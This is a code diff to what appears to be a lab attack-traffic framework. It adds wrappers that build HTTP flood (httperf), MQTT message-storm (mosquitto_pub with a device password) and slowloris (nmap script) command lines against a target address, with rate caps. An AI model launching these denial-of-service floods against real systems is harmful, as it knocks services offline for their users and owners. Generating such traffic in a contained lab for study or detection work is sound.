@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import sys
 
-from wirespeak.lab.attacks.tool import MOST_PACKETS_PER_S, Strike, own, tool
+from wirespeak.lab.attacks.tool import MOST_PACKETS, MOST_PACKETS_PER_S, Strike, own, tool
 
 
 @tool("flood.http")
@@ -279,3 +279,35 @@ def pypi_slowloris(s: Strike, *, connections: int = 80, interval: int = 5, agent
     """The package `slowloris`: header lines that never end."""
     pace = ["-s", str(connections), "--sleeptime", str(interval)]
     return [sys.executable, "-m", "slowloris", *pace, *(["-ua"] if agents else []), s.address]
+
+
+@tool("flood.http", package="httperf")
+def httperf(s: Strike, *, rate: float = 60.0, calls: int = 1, page: str = "/") -> list[str]:
+    """httperf: `rate` connections a second with `calls` requests on each."""
+    rate, calls = min(rate, 300), max(1, calls)
+    connections = min(s.count(rate), MOST_PACKETS // calls)
+    pace = ["--rate", f"{rate:g}", "--num-conns", str(connections), "--num-calls", str(calls)]
+    return ["httperf", "--hog", "--timeout", "4", "--server", s.address, "--uri", page, *pace]
+
+
+@tool("flood.mqtt", package="mosquitto-clients")
+def mosquitto_pub_stream(
+    s: Strike, *, parallel: int = 6, lines: int = 5, pause: float = 0.1, qos: int = 0
+) -> list[str]:
+    """mosquitto_pub processes that stay: every `pause` seconds `lines` messages on one connection each."""
+    pause = max(pause, parallel * lines / MOST_PACKETS_PER_S)
+    fed = f"while [ $(date +%s) -lt $end ]; do seq {lines}; sleep {pause:g}; done"
+    one = f"mosquitto_pub -h {s.address} -t storm/$1 -l -q {qos} -u bulb -P {s.world.passwords['device']}"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; {fed} | {one}) & done; wait",
+    ]
+
+
+@tool("flood.slow", package="nmap")
+def nmap_slowloris(s: Strike, *, connections: int = 60, interval: int = 4) -> list[str]:
+    """nmap's script http-slowloris: headers that never end, on as many connections as nmap keeps open."""
+    given = f"http-slowloris.send_interval={interval}s,http-slowloris.timelimit={int(s.seconds)}s"
+    script = ["--script", "http-slowloris", "--script-args", given]
+    return ["nmap", "-n", "-Pn", "-sT", "-p80", "--max-parallelism", str(connections), *script, s.address]
